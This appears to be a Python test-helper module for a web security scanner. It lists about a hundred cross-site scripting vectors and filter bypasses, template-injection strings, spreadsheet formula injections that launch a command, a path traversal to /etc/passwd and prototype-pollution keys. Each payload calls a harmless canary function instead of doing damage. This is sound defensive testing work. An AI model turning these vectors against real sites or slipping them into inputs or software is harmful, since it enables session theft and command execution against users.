"""Text that becomes a program wherever it is taken for HTML, an address, a style, a template or a formula.

`payload(number, field)` is text that calls `X('NUMBER FIELD')` when it runs; the watch gives `X` to every window.
Addresses lead to `/xss-canary…`, so that a request tells of an injection that runs nothing.
"""

from __future__ import annotations

_SVG = "%3Csvg xmlns='http://www.w3.org/2000/svg' onload=X('@')%3E"
#: `@` stands for what the call tells, `#` for a number of its own. Short ones survive where text is shortened.
TEMPLATES: tuple[str, ...] = (
    "<script>X('@')</script>",
    "<img src=x onerror=X('@')>",
    "<svg onload=X('@')>",
    "<b onclick=X('@') autofocus onfocus=X('@') tabindex=1>b</b>",
    "\"><script>X('@')</script>",
    "'><script>X('@')</script>",
    "</title><script>X('@')</script>",
    "</style><script>X('@')</script>",
    "</textarea><script>X('@')</script>",
    "</script><script>X('@')</script>",
    "</pre></code><img src=x onerror=X('@')>",
    "</option></select><svg onload=X('@')>",
    "</td></tr></table><svg onload=X('@')>",
    "--><script>X('@')</script><!--",
    "]]><script>X('@')</script>",
    "\" onerror=X('@') src=x x=\"",
    "' onfocus=X('@') autofocus tabindex=0 x='",
    "` onmouseover=X('@') x=`",
    "\" style=\"background:url(/xss-canary-#)\" x=\"",
    "javascript:X('@')",
    "JaVaScRiPt:X('@')",
    "java\tscript:X('@')",
    "java\nscript:X('@')",
    "\x01javascript:X('@')",
    "&#106;avascript:X('@')",
    "data:text/html,<script>parent.X('@')</script>",
    "vbscript:X('@')",
    "<a href=javascript:X('@')>open</a>",
    "<a href=\"java&Tab;script:X('@')\">open</a>",
    "[open](javascript:X('@'))",
    "![x](x \"onerror=X('@')\")",
    "<iframe src=javascript:parent.X('@')>",
    "<iframe srcdoc=\"<script>parent.X('@')</script>\">",
    "<object data=javascript:X('@')>",
    "<embed src=javascript:X('@')>",
    f"<img src=\"data:image/svg+xml,{_SVG}\">",
    "<img src=/xss-canary-#>",
    "<img srcset=/xss-canary-#>",
    "<link rel=stylesheet href=/xss-canary-#>",
    "<style>@import '/xss-canary-#';</style>",
    "<style>*{background:url(/xss-canary-#)}</style>",
    "<base href=http://xss-canary.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=/xss-canary-#\">",
    "<form action=javascript:X('@')><button autofocus>b</button></form>",
    "<input autofocus onfocus=X('@')>",
    "<details open ontoggle=X('@')>d</details>",
    "<video src=x onerror=X('@')></video>",
    "<video><source onerror=X('@')></video>",
    "<audio src=x onerror=X('@')>",
    "<body onload=X('@')>",
    "<marquee onstart=X('@')>m</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=X('@')>b</b>",
    "<svg><script>X('@')</script></svg>",
    "<svg><animate onbegin=X('@') attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,%3Csvg id='x' onload='X()'/%3E#x\">",
    "<svg><style><img src=x onerror=X('@')></style></svg>",
    "<svg><foreignObject><img src=x onerror=X('@')></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=X('@')>",
    "<noscript><p title=\"</noscript><img src=x onerror=X('@')>\">",
    "<template><img src=x onerror=X('@')></template>",
    "<scr<script>ipt>X('@')</scr</script>ipt>",
    "<<script>X('@')//<</script>",
    "<img/src=x/onerror=X('@')>",
    "<img src=x onerror\n=\nX('@')>",
    "%3Cimg src=x onerror=X('@')%3E",
    "&lt;img src=x onerror=X('@')&gt;",
    "\\u003cimg src=x onerror=X('@')\\u003e",
    "\uff1cimg src=x onerror=X('@')\uff1e",
    "<img src=x onerror=X('@')\u2028>",
    "\u202e>('@')X=rorreno x=crs gmi<",
    "{{constructor.constructor(\"X('@')\")()}}",
    "${X('@')}",
    "#{X('@')}",
    "<%= X('@') %>",
    "$\\href{javascript:X('@')}{x}$",
    "\\unicode{<img src=x onerror=X('@')>}",
    "expression(X('@'))",
    "url(javascript:X('@'))",
    "red;background:url(/xss-canary-#)",
    "\x1b]8;;javascript:X('@')\x07open\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror=X('@')>\x1b[0m",
    "=HYPERLINK(\"javascript:X('@')\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "../../../../etc/passwd",
    "//xss-canary.invalid/x",
    "',X('@'),'",
    "\"-X('@')-\"",
    "\\\";X('@')//",
)  # fmt: skip
#: Names that no hand-made object lacks: told apart from data only by who owns them.
INHERITED = frozenset({"__proto__", "constructor", "toString", "hasOwnProperty"})
COUNT = len(TEMPLATES)


def payload(number: int, field: str = "") -> str:
    """Return the text of a number; it tells `field` when it runs."""
    return TEMPLATES[number].replace("@", f"{number} {field}".strip()).replace("#", str(number))


def payloads(field: str = "") -> list[str]:
    """Return every text."""
    return [payload(number, field) for number in range(COUNT)]
